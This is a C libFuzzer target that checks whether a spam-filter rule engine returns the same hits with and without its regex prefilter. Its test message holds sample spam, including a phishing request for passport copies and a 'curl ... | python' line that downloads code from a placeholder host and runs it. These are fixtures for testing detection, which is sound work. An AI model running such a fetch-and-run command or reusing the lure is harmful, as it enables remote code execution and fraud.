/*
 * fuzz_rules.c - libFuzzer target: the rule-file parser, then the loaded
 * rules run on a fixed message so compiled regexes are exercised too.
 * The message is scanned twice, with the one-pass prefilter and without
 * (every regex run by PCRE2 on its own): the hits, subrules and details
 * must be the same, or the prefilter skipped a regex that matches (a
 * required literal reqlit.c missed, or Vectorscan missing a literal).
 * The message has lines longer than 64 bytes and a body past 256, so that
 * the scans cross the SIMD block sizes where Vectorscan's bugs live, and
 * bytes >= 0x80 and '&', near which the slots whose literals hold only
 * without them are searched (prefilter.c, odd_windows), and runs of hex
 * digits, capitals and figures, where slots without a literal but with a
 * part that consumes such a run are searched (span_windows).
 * A regex that hits PCRE2's match limit counts as no match, and the
 * prefilter's shorter searches (from a window around a literal, up to
 * the last literal) may then find a match the whole search gave up on:
 * a difference is allowed only when a scan hit the limit.
 * A third scan, with the prefilter and without a subrules list, runs a __
 * rule only when a meta needs its value (rules.c, lazy evaluation): its
 * hits and details must be those of the first scan; so must a fourth's,
 * where every regex that would run is put off while a scored meta is
 * settled over bounds (rules_set_settle(rs, 1)).
 * Each scan reads a second message too, whose texts are plain (ASCII, no
 * '&'), where the slots with a run of byte classes are ruled out when
 * the run is missing (prefilter.c's class_runs); it has look-alike
 * spellings, separators between letters and runs of digits and hex.
 */
#include "autoconfig.h"

#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "core/config.h"
#include "core/engine.h"
#include "core/stage.h"
#include "stages/registry.h"
#include "base/log.h"
#include "core/mboxfile.h"
#include "rules/rules.h"
#include "core/scan.h"
#include "base/util.h"
#include "net/metrics.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char MSG[] =
	"From: a <a@b.test>\nTo: c@d.test\nSubject: Hello WORLD, a subject line longer than "
	"sixty-four bytes [ok]\nX-Mailer: x\nX-List: [ ip=192.0.2.1 rdns=mx.b.test helo=mx.b.test "
	"by=d.test ident= envfrom= intl=0 id= auth= msa=0 ]\n\n"
	"body text http://x.test/ click here\n"
	"caf\xc3\xa9 cr\xe8me, \xa0na\xefve fr\xc3\xa9" "e cr\xc3\xa9" "dit &amp; more \xe9 word\n"
	"[ a bracketed line of text that runs on for more than sixty-four bytes ]\n"
	"Dear friend, please send your FULL NAME, address, phone number and a copy of "
	"your passport to claim the $1,000,000 prize: reply to winner@x.test now!!!\n"
	"curl http://xxxx:8000/ 2>&1 | python\n"
	"order id a3f9c2e1-b7d04e55f for CONGRATULATIONSWINNERS, usd 12,345.67 paid\n";

static const char PLAIN[] =
	"From: Winner <w1nner@x.test>\nTo: c@d.test\nSubject: Y0ur pr1ce c.l.i.c.k h e r e\n"
	"Message-ID: <a3f9c2e1-b7d0-4e55-9f00-123456789abc@x.test>\n\n"
	"V-i-a-g-r-a and c1a|1s at l0w pr!c3s, m1ll!0n dollars, p r i c e s, k!ll\n"
	"Send the 4444 5555 6666 7777 number and 0xdeadbeefcafe1234 today\n"
	"a social call for the securities sector, cheap meds online\n";

/* append - every hit of h as "name detail\n" */
static void append(struct buf *b, const struct hits *h)
{
	for (size_t i = 0; i < h->n; i++)
		buf_printf(b, "%s %s\n", h->v[i].name, h->v[i].detail ? h->v[i].detail : "-");
}

/* limits - regex searches stopped by the match limit so far */
static unsigned long long limits(void)
{
	static const char name[] = "\nparapet_regex_limit_total ";
	size_t len;
	char *m = metrics_render(&len);
	const char *p = strstr(m, name);
	unsigned long long n = p ? strtoull(p + sizeof(name) - 1, NULL, 10) : 0;

	free(m);
	return n;
}

/* hits_only - s without the subrules (the lines from each "--" to its
 * "##"), as a run without subrules writes it (caller frees) */
static char *hits_only(const char *s)
{
	struct buf b;
	bool sub = false;

	buf_init(&b);
	buf_puts(&b, "");
	for (const char *p = s; *p;) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) + 1 : strlen(p);
		if (n == 3 && strncmp(p, "##\n", 3) == 0)
			sub = false;
		if (!sub)
			buf_append(&b, p, n);
		if (n == 3 && strncmp(p, "--\n", 3) == 0)
			sub = true;
		p += n;
	}
	return b.data;
}

/* run - scan MSG, then PLAIN; the hits of each and, with subrules, the
 * subrules as text (caller frees) */
static char *run(struct engine *e, bool subrules)
{
	static const char *const msgs[] = { MSG, PLAIN };
	struct buf b;

	buf_init(&b);
	for (int k = 0; k < 2; k++) {
		struct hits sub = { 0 };
		struct scan *sc = scan_new(e);
		sc->no_dns = true;
		if (subrules)
			sc->hits.subrules = &sub;
		mboxfile_feed(sc, msgs[k], strlen(msgs[k]));
		scan_finish(sc);
		append(&b, &sc->hits);
		buf_puts(&b, "--\n");
		append(&b, &sub);
		buf_puts(&b, "##\n");
		scan_free(sc);
		hits_clear(&sub);
	}
	return b.data;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char **builtins;	/* the shipped stages' built-ins, once */

	if (builtins == NULL)
		builtins = stage_symbol_names(stage_registry);
	char *text = xstrndup((const char *)data, size);
	char *err = NULL;
	struct diag d;

	log_set_level(LOG_LVL_ERROR);
	diag_init(&d);
	struct ruleset *rs = rules_load_text("fuzz.cf", text, builtins, &d);
	if ((rs == NULL) != (d.errors > 0))
		abort();
	if (rs) {
		struct engine *e = engine_new(config_parse_buf("f", "", 0, &err), rs, stage_registry);
		unsigned long long before = limits();
		char *on = run(e, true);
		char *lazy = run(e, false);	/* the hits of on, without subrules */
		rules_set_settle(rs, 1);	/* every regex put off while settling */
		char *settled = run(e, false);
		rules_set_prefilter(rs, false);
		char *off = run(e, true);
		if (strcmp(on, off) != 0 && limits() == before)
			abort();
		char *hits = hits_only(on);
		if (strcmp(hits, lazy) != 0 && limits() == before)
			abort();
		if (strcmp(hits, settled) != 0 && limits() == before)
			abort();
		free(hits);
		free(on);
		free(lazy);
		free(settled);
		free(off);
		engine_unref(e);
	}
	diag_free(&d);
	free(text);
	return 0;
}
